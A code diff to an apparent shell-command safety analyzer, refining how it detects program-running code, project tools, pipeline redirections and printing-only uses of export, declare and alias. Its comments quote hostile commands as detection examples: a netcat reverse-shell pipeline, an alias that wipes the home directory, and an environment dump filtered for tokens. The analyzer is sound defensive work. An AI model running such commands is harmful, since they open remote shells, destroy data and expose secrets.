@@ -1200,6 +1200,11 @@ _CODE_ROOT_RE = re.compile(
     r"""(['"])(?:/+[*.]?|~/?\*?|\$HOME/?\*?)\1|expanduser\(|Path\.home\(|homedir\(|\bHOME\b|USERPROFILE""")
 _CODE_DISK_RE = re.compile(r"""/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md\d|dm-|mapper/|loop|sr\d)""")
 # a quoted absolute or home path in interpreter code
+# code that may run a program named at run time; os's attributes that only report
+# (os.getcwd(), os.path.join, os.name, os.cpu_count()) do not (probe round 28)
+_CODE_RUNS_RE = re.compile(r"\b(system|exec|popen|spawn|subprocess|child_process|eval|Popen|"
+                           r"os\.(?!(?:getcwd|path|name|sep|linesep|pathsep|cpu_count|getpid)\b(?!\s*=))|"
+                           r"shell_exec|passthru|proc_open)\b")
 _CODE_PATH_RE = re.compile(r"""(['"])([\w.~/+@-][\w.~/+@:-]{0,1023})\1""")
 # a quoted absolute path in interpreter code, perl's open mode in front of it (">/etc/x")
 _CODE_TARGET_RE = re.compile(r"""(['"])(\+?>{1,2}\s*)?(/[\w.~/+@:-]{0,1023})\1""")
@@ -1827,7 +1832,7 @@ _SYSTEM_PROGRAM = re.compile(r"/(?:usr/(?:local/)?)?s?bin/[^/]+|/opt/homebrew/bi
 # a project's own build tools: its virtualenv's, node_modules', composer's, its binstubs
 # (bin/rails), its gradle or maven wrapper (the build's trust: they run the project's code)
 _PROJECT_TOOL = re.compile(r"^(?!(?:.*/)?\.\.(?:/|$))(?:\./)?(?:[\w.-]+/)*(?:(?:\.?venv|env|\.tox/[\w.-]+)/bin/[\w.-]+|node_modules/\.bin/[\w.-]+"
-                           r"|(?:vendor/)?bin/[\w.-]+|gradlew|mvnw)$")
+                           r"|(?:vendor/)?bin/[\w.-]+|gradlew|mvnw|manage\.py)$")
 
 
 # an interpreter installed under its version (python3.11, lua5.4, php8.2, perl5.36,
@@ -2708,7 +2713,7 @@ class _Analyzer:
         return out
 
     def pipeline(self, stages: list, ctx: _Ctx, stdin: _Stream | None, upstream: _Stream | None = None,
-                 last_stdin: _Stream | None = None) -> _Stream:
+                 last_stdin: _Stream | None = None, last_words: list[_Word] | None = None) -> _Stream:
         cur = upstream if upstream is not None else stdin
         fetch = bool(cur and cur.fetch)
         saved = self.dir_state()
@@ -2722,7 +2727,11 @@ class _Analyzer:
                 cur = last_stdin   # a | b < f: b reads f, not a's output
             before = self.n_fetch
             shell_before = self.n_stdin_shells > shells
-            sub = self.stmt(node, piped_ctx, cur)
+            if last_words and k == len(stages) - 1:
+                self.nodes += 1
+                sub = self.command(node, piped_ctx, [], cur, last_words)
+            else:
+                sub = self.stmt(node, piped_ctx, cur)
             if shell_before and self.n_fetch > before:
                 # cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f: a shell reading a pipe
                 # whose output goes to the network (the fifo brings the answers back)
@@ -2780,9 +2789,11 @@ class _Analyzer:
         elif body.type == "command":
             out = self.command(body, ctx, redirs, stdin, extra_words)
         else:
-            if extra_words:
+            if extra_words and not (body.type == "pipeline" and self.stages(body)[-1].type == "command"):
                 raise _Unparseable(f"{ERR_UNSUPPORTED}: words after a redirection of a compound command")
-            out = self.redirected_compound(body, redirs, self._t(node), ctx, stdin)
+            # (a | diff f - 2>&1: the grammar drops the "-" and hangs "2>&1" on the whole
+            # pipeline; bash gives both to its last command, whose words they are)
+            out = self.redirected_compound(body, redirs, self._t(node), ctx, stdin, extra_words)
         for kind, cont in continuations:
             if kind == "pipe":
                 out = self.pipeline(cont, ctx, None, upstream=_Stream(fetch=out.fetch, text=out.text, piped=True))
@@ -2809,14 +2820,18 @@ class _Analyzer:
             raise _Unparseable(ERR_SYNTAX)
         return len(words)
 
-    def redirected_compound(self, body, redirs: list[_Redir], text: str, ctx: _Ctx, stdin: _Stream | None) -> _Stream:
-        """A pipeline, group, subshell or loop with redirections of its own."""
+    def redirected_compound(self, body, redirs: list[_Redir], text: str, ctx: _Ctx, stdin: _Stream | None,
+                            last_words: list[_Word] | None = None) -> _Stream:
+        """A pipeline, group, subshell or loop with redirections of its own. last_words:
+        words of a pipeline's last command the grammar left beside the redirections."""
         in_stream = self.apply_redirects(redirs, text, stdin)
         ro_before = self.read_only
         if body.type == "pipeline" and any(r.op in ("<", "<>", "<<", "<<-", "<<<") for r in redirs):
             # the grammar hangs "a | while ...; done < f" on the whole pipeline; bash
             # gives the input to its last command
-            out = self.pipeline(self.stages(body), ctx, stdin, last_stdin=in_stream or _Stream())
+            out = self.pipeline(self.stages(body), ctx, stdin, last_stdin=in_stream or _Stream(), last_words=last_words)
+        elif last_words:
+            out = self.pipeline(self.stages(body), ctx, in_stream, last_words=last_words)
         else:
             out = self.stmt(body, ctx, in_stream)
         self.read_only = ro_before and self.read_only and not any(self.harmful(r) for r in redirs)
@@ -3267,9 +3282,12 @@ class _Analyzer:
                 for w in argv[1:]):
             self.assigns_seen = True
             return _Stream()   # export NODE_ENV=test: a setting that changes no program run
-        self.read_only = False
-        self.record(argv, [], [], ctx, self._t(node), unknown_tail=False, stdin=None)
-        return _Stream()
+        if assigns or not argv or argv[0].value not in ("declare", "typeset", "export") \
+                or not all(w.exact and not w.dynamic for w in argv) or not C.READ_ONLY[argv[0].value](
+                    [w.value for w in argv[1:]], False):
+            self.read_only = False   # (declare -p PATH, export -p: printed; record judges them)
+        out = self.record(argv, [], [], ctx, self._t(node), unknown_tail=False, stdin=None)
+        return out if out.env else _Stream()   # (export -p | grep -i token: the environment's values)
 
     # -- words ------------------------------------------------------------------------------
 
@@ -5050,8 +5068,8 @@ class _Analyzer:
                     dyn_args.append(i)
             i += 1
         dynamic_name = w0.dynamic or not w0_exact
-        if dynamic_name or name == "alias" or evaluated:
-            self.mark_dynamic()
+        if dynamic_name or (name == "alias" and any(v != "-p" for v in vals)) or evaluated:
+            self.mark_dynamic()   # (alias NAME=...: NAME then runs the value; alias alone prints)
         if name == "alias":
             for w in argv[1:]:
                 if w.exact and "=" in w.value:   # alias ls='rm -rf ~': ls then runs the value
@@ -6048,7 +6066,7 @@ class _Analyzer:
                 self.mark_dynamic()
             elif C.awk_prints_to(bare):
                 self.awk_writes(src, bare, text)
-        if re.search(r"\b(system|exec|popen|spawn|subprocess|child_process|eval|Popen|os\.|shell_exec|passthru|proc_open)\b", src) and not found:
+        if _CODE_RUNS_RE.search(src) and not found:
             self.mark_dynamic()
 
     def code_writes(self, src: str, text: str) -> None:
@@ -7550,7 +7568,8 @@ class _Analyzer:
             self.mark_dynamic()
 
     def fx_alias(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
-        self.mark_dynamic()
+        if any(v != "-p" for v in vals):
+            self.mark_dynamic()   # (alias alone, alias -p: the aliases printed)
 
 
 # every name effects() has a check for beyond reads and privilege (a name with "-" or "."
